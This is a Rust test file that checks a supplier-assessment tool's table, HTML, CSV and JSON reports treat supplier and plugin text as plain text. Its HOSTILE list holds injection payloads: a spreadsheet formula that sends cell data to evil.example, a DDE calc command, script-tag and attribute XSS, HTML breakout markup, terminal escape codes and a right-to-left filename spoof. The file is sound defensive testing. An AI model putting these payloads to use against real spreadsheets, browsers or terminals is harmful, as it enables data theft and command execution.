//! Text of a supplier and of a plugin, through the real program into every format: nothing of it is interpreted.
#![expect(clippy::unwrap_used, reason = "a helper of a test may stop the test")]

mod support;

use scraper::{Html, Node};
use serde_json::Value;
use support::desk::{Desk, Printed, UNDECIDED};

/// One of each way to be taken for more than text. The report room tries many more on each encoder.
const HOSTILE: [&str; 8] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
    "＝cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "</bdi></td></tr></table><h1>APPROVE</h1>",
    "--><![CDATA[<svg/onload=alert(1)>]]>",
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31mred",
    "invoice\u{202e}fdp.exe\u{2028}APPROVE",
];

/// What a program prints for a supplier whose name, answer, document and plugin all say the same.
struct Said {
    table: Printed,
    html: String,
    csv: Vec<u8>,
    json: Value,
    raw_json: String,
}

fn say(text: &str) -> Said {
    let desk = Desk::new();
    let quoted = Value::from(text).to_string();
    // A basic string of TOML is a string of JSON, but for the controls that JSON leaves as they are.
    let quoted: String = quoted
        .chars()
        .map(|c| match c {
            '\u{7f}'..='\u{9f}' => format!("\\u{:04x}", u32::from(c)),
            other => other.to_string(),
        })
        .collect();
    desk.write(
        "acme/supplier.toml",
        format!(
            "[supplier]\nid = \"acme\"\nlegal-name = {quoted}\n\n\
             [[documents]]\nfile = \"said.txt\"\nkind = \"report\"\nin-force = true\n"
        ),
    );
    desk.write(
        "acme/answers.toml",
        format!("[answers.breach-notice]\nvalue = \"48\"\ncomment = {quoted}\nanswered-by = {quoted}\nanswered-on = 2026-11-01\n"),
    );
    desk.write("acme/evidence/said.txt", text);
    let digest = desk.plugin("echoes");
    let table = desk.assay(&format!(
        "assess acme --as-of 2026-11-20 --offline --unlocked --plugins checks --vouch {digest}"
    ));
    assert_eq!(table.code, UNDECIDED, "{text:?}: {}", table.err);
    let report = |format: &str| desk.done(&format!("report acme --format {format}")).out;
    let raw_json = report("json");
    Said {
        table,
        html: report("html"),
        csv: report("csv").into_bytes(),
        json: serde_json::from_str(&raw_json).unwrap(),
        raw_json,
    }
}

/// Elements and the names of their attributes, as a browser's parser sees them.
fn shape(page: &str) -> Vec<String> {
    let mut shape: Vec<String> = Html::parse_document(page)
        .tree
        .values()
        .filter_map(|node| match node {
            Node::Element(element) => {
                let names: Vec<&str> = element.attrs().map(|(name, _)| name).collect();
                Some(format!("{} {names:?}", element.name()))
            }
            Node::Comment(_) | Node::ProcessingInstruction(_) => Some("not text".to_owned()),
            _ => None,
        })
        .collect();
    shape.sort_unstable();
    shape
}

fn rows(csv: &[u8]) -> Vec<Vec<String>> {
    let text = csv.strip_prefix(b"\xEF\xBB\xBF").unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text)
        .records()
        .map(|row| row.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// True for what moves the cursor or turns the direction of reading.
fn draws(c: char) -> bool {
    c.is_control() && c != '\n' || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn strings<'a>(value: &'a Value, all: &mut Vec<&'a str>) {
    match value {
        Value::String(text) => all.push(text),
        Value::Array(items) => items.iter().for_each(|item| strings(item, all)),
        Value::Object(fields) => fields.values().for_each(|field| strings(field, all)),
        _ => {}
    }
}

#[test]
fn what_a_supplier_and_its_plugin_write_stays_text_in_every_format() {
    let harmless = say("harmless words of a supplier");
    for text in HOSTILE {
        let said = say(text);
        for printed in [&said.table.out, &said.table.err, &said.raw_json] {
            let drawn = printed.chars().find(|c| draws(*c));
            assert_eq!(drawn, None, "{text:?} draws");
        }
        assert_eq!(shape(&said.html), shape(&harmless.html), "{text:?}");
        let (table, expected) = (rows(&said.csv), rows(&harmless.csv));
        assert_eq!(table.len(), expected.len(), "{text:?}");
        for cell in table.iter().flatten() {
            let start = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '"');
            assert!(
                !start.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']),
                "{cell:?}"
            );
        }
        // What a program reads is what was written: name, comment, and what the plugin made of the document.
        let mut values = Vec::new();
        strings(&said.json, &mut values);
        let same = values.iter().filter(|value| **value == text).count();
        assert!(same >= 3, "{text:?} stands {same} times in the JSON report");
    }
}
